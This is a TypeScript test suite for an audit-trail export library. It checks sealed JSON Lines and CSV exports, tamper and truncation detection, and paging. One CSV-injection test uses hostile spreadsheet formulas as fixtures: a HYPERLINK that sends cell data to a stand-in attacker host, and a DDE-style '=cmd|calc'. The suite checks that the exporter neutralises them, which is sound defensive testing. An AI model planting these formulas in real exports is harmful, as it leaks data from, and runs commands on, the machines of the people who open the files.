import { parse } from 'csv-parse/sync';
import { prepareExport, verifyExport, readTrail, latestSeal } from '@klaster/audit';
import { appendTo, tempStore, type TempStore } from './support';
import { newKey } from './tamper/audit-verify.suite';

const text = async (stream: NodeJS.ReadableStream) => {
  let out = '';
  for await (const chunk of stream) out += chunk.toString();
  return out;
};

describe('exports of the trail', () => {
  let t: TempStore;
  const key = newKey();
  beforeEach(async () => {
    t = tempStore();
    await appendTo(t.store, 'cluster-kl', ['TimeZoneChanged', 'RegistrarAppointed'], { data: () => ({ timeZone: 'Europe/Warsaw', previous: 'UTC', personId: 'p9', appointedAt: '2024-01-01T10:00:00.000Z' }) });
    await appendTo(t.store, 'meeting-kl.rada-1', ['MeetingConvened', 'MeetingOpened', 'AgendaItemAdded'], { data: (i) => ({ title: i === 0 ? 'Rada, posiedzenie 1' : 'Uchwała, „cudzysłów”, przecinek\nnowa linia' }) });
    await appendTo(t.store, 'cluster-inny', ['ClusterFounded']);
  });
  afterEach(() => t.cleanup());

  it('streams JSON Lines that end with the seal covering them and verify offline; a cut copy fails', async () => {
    const prepared = (await prepareExport(t.store, 'kl', { sealing: { key } }))!;
    const lines = (await text(prepared.stream('jsonl'))).trimEnd().split('\n');
    expect(lines).toHaveLength(1 + 5 + 1);
    expect(JSON.parse(lines[0])).toMatchObject({ kind: 'header', format: 'klaster-audit-export/2', complete: true });
    expect(JSON.parse(lines[6])).toMatchObject({ kind: 'seal', event: { type: 'SealRecorded', data: { sequence: 1 } } });
    const { event, entry } = JSON.parse(lines[3]);
    // The entry says only what the event does not: the ids, positions, hashes and times are the event's own.
    expect(Object.keys(entry).sort()).toEqual(['act', 'actor', 'aggregate', 'charterVersion', 'occurredAt']);
    expect(entry).toMatchObject({ aggregate: { kind: 'meeting', id: 'kl.rada-1' }, actor: { erased: false }, occurredAt: event.metadata.recordedAt });
    expect(entry.act.pl).toBe('Zwołano posiedzenie „Rada, posiedzenie 1” na —');
    expect(entry.act.en).toBe('Meeting “Rada, posiedzenie 1” convened for —');

    expect(await verifyExport(lines, { publicKey: key.publicKey })).toMatchObject({ ok: true, complete: true, eventsChecked: 5, signatureChecked: true });
    // Cut short: the last event and the seal gone.
    const cut = await verifyExport(lines.slice(0, 5));
    expect(cut.problems[0]).toMatchObject({ kind: 'truncated', detail: expect.stringMatching(/does not end with its seal/) });
    // The stream's last event dropped but the seal kept: the seal names the truncation.
    const dropped = await verifyExport([...lines.slice(0, 5), lines[6]]);
    expect(dropped.problems).toEqual([expect.objectContaining({ kind: 'truncated', streamId: 'meeting-kl.rada-1', revision: 2n })]);
    // An event changed in the file.
    const changed = lines.map((l, i) => (i === 2 ? l.replace('p9', 'p8') : l));
    expect((await verifyExport(changed)).problems[0]).toMatchObject({ kind: 'changed', streamId: 'cluster-kl', revision: 1n });
  });

  it('writes every event once, in log order, across the chunks it is streamed in', async () => {
    // More events than one chunk holds, and a count that does not fill the last chunk.
    await appendTo(t.store, 'meeting-kl.rada-2', Array.from({ length: 37 }, () => 'AttendanceRecorded'), { data: (i) => ({ memberId: `m${i % 5}`, presence: 'in_person' }) });
    const prepared = (await prepareExport(t.store, 'kl', { sealing: { key } }))!;
    const lines = (await text(prepared.stream('jsonl'))).trimEnd().split('\n').map((l) => JSON.parse(l));
    const positions = lines.filter((l) => l.kind === 'event').map((l) => BigInt(l.event.position));
    expect(positions).toHaveLength(5 + 37);
    expect(positions).toEqual([...positions].sort((a, b) => (a < b ? -1 : 1)));
    expect(new Set(positions).size).toBe(positions.length);
    // The same act with the same facts reads the same; a different member reads differently.
    const acts = lines.filter((l) => l.event?.type === 'AttendanceRecorded').map((l) => l.entry.act.en);
    expect(acts[0]).toBe(acts[5]);
    expect(acts[0]).not.toBe(acts[1]);
    const rows = parse(await text(prepared.stream('csv')), { columns: true, bom: true }) as Record<string, string>[];
    expect(rows.map((r) => r.position)).toEqual([...positions.map(String), prepared.seal.event.position.toString()]);
  });

  it('writes a name or a text a spreadsheet would run as a formula with a leading apostrophe (CSV injection); JSON Lines as typed', async () => {
    await appendTo(t.store, 'meeting-kl.rada-1', ['MeetingClosed'], { actor: 'p-evil' });
    await appendTo(t.store, 'meeting-kl.rada-1', ['MeetingReopened'], { actor: 'p-wide' });
    await appendTo(t.store, 'meeting-kl.rada-1', ['MinutesApproved'], { actor: 'p-lines' });
    const name = '=HYPERLINK("http://attacker.example/?"&A1,"open")';
    const names: Record<string, string> = { 'p-evil': name, 'p-wide': '＝SUM(A1:A9)', 'p-lines': '-2+3\n=cmd|calc', p1: '+48 600 000 000' };
    const people = (personId: string) => ({ name: names[personId] ?? ' Anna, "Nowak" ', erased: false });
    const prepared = (await prepareExport(t.store, 'kl', { sealing: { key }, people }))!;
    const rows = parse(await text(prepared.stream('csv')), { columns: true, bom: true }) as Record<string, string>[];
    expect(rows.find((r) => r.actor === 'p-evil')!.actor_name).toBe(`'${name}`);
    expect(rows.find((r) => r.actor === 'p1')!.actor_name).toBe("'+48 600 000 000");
    expect(rows.find((r) => r.actor === 'p-wide')!.actor_name).toBe("'＝SUM(A1:A9)");
    expect(rows.find((r) => r.actor === 'p-lines')!.actor_name).toBe("'-2+3\n=cmd|calc");
    // Nothing else is touched: every other field reads as written.
    expect(rows.every((r) => !r.position.startsWith("'") && !r.act_en.startsWith("'"))).toBe(true);
    const lines = (await text(prepared.stream('jsonl'))).trimEnd().split('\n').map((l) => JSON.parse(l));
    expect(lines.find((l) => l.event?.metadata.actor === 'p-evil').entry.actor.name).toBe(name);
  });

  it('reuses the latest seal when it covers everything, and seals anew when the cluster moved on', async () => {
    const first = (await prepareExport(t.store, 'kl', { sealing: { key } }))!;
    expect((await prepareExport(t.store, 'kl', { sealing: { key } }))!.seal.event.id).toBe(first.seal.event.id);
    await appendTo(t.store, 'meeting-kl.rada-1', ['MeetingClosed']);
    const next = (await prepareExport(t.store, 'kl', { sealing: { key } }))!;
    expect(next.seal.seal.sequence).toBe(2);
    const lines = (await text(next.stream('jsonl'))).trimEnd().split('\n');
    // The first seal is part of the trail, the second closes it.
    expect(lines.filter((l) => JSON.parse(l).event?.type === 'SealRecorded')).toHaveLength(2);
    expect(await verifyExport(lines, { publicKey: key.publicKey })).toMatchObject({ ok: true, eventsChecked: 7 });
  });

  it('writes CSV with a header row, quoted texts and the seal as its last row', async () => {
    const prepared = (await prepareExport(t.store, 'kl', { sealing: { key } }))!;
    const rows = parse(await text(prepared.stream('csv')), { columns: true, bom: true }) as Record<string, string>[];
    expect(rows).toHaveLength(6);
    expect(rows[4].act_pl).toBe('Dodano do porządku obrad posiedzenia „Rada, posiedzenie 1” punkt „Uchwała, „cudzysłów”, przecinek\nnowa linia”');
    expect(rows[5]).toMatchObject({ event_type: 'SealRecorded', stream_id: 'seals-kl', hash: prepared.seal.event.metadata.hash });
    expect(rows[5].act_en).toContain(prepared.seal.seal.root);
  });

  it('filters a filtered export, which says it is not complete', async () => {
    const prepared = (await prepareExport(t.store, 'kl', { filters: { aggregate: 'meeting' } }))!;
    const lines = (await text(prepared.stream('jsonl'))).trimEnd().split('\n');
    expect(JSON.parse(lines[0])).toMatchObject({ complete: false, filters: { aggregate: 'meeting' } });
    expect(lines.slice(1, -1).map((l) => JSON.parse(l).event.streamId)).toEqual(['meeting-kl.rada-1', 'meeting-kl.rada-1', 'meeting-kl.rada-1']);
    expect((await verifyExport(lines)).ok).toBe(true);
  });

  it('pages the trail by position with filters, never mixing in another cluster', async () => {
    const page1 = await readTrail(t.store, 'kl', { limit: 2 });
    expect(page1.entries.map((e) => e.type)).toEqual(['TimeZoneChanged', 'RegistrarAppointed']);
    const page2 = await readTrail(t.store, 'kl', { limit: 2, after: BigInt(page1.nextCursor!) });
    expect(page2.entries.map((e) => e.type)).toEqual(['MeetingConvened', 'MeetingOpened']);
    const rest = await readTrail(t.store, 'kl', { after: BigInt(page2.nextCursor!) });
    expect(rest).toMatchObject({ nextCursor: null, entries: [expect.objectContaining({ type: 'AgendaItemAdded' })] });
    expect((await readTrail(t.store, 'kl', { filters: { types: ['MeetingOpened'] } })).entries).toHaveLength(1);
    expect((await readTrail(t.store, 'kl', { filters: { aggregate: 'cluster' } })).entries).toHaveLength(2);
    expect((await readTrail(t.store, 'kl', { filters: { actor: 'nobody' } })).entries).toHaveLength(0);
    // A scan limit ends a page early, with a cursor to go on.
    const scanned = await readTrail(t.store, 'kl', { scanLimit: 2, filters: { types: ['AgendaItemAdded'] } });
    expect(scanned.entries).toHaveLength(0);
    expect(scanned.nextCursor).not.toBeNull();
    expect(await latestSeal(t.store, 'kl')).toBeUndefined();
  });
});
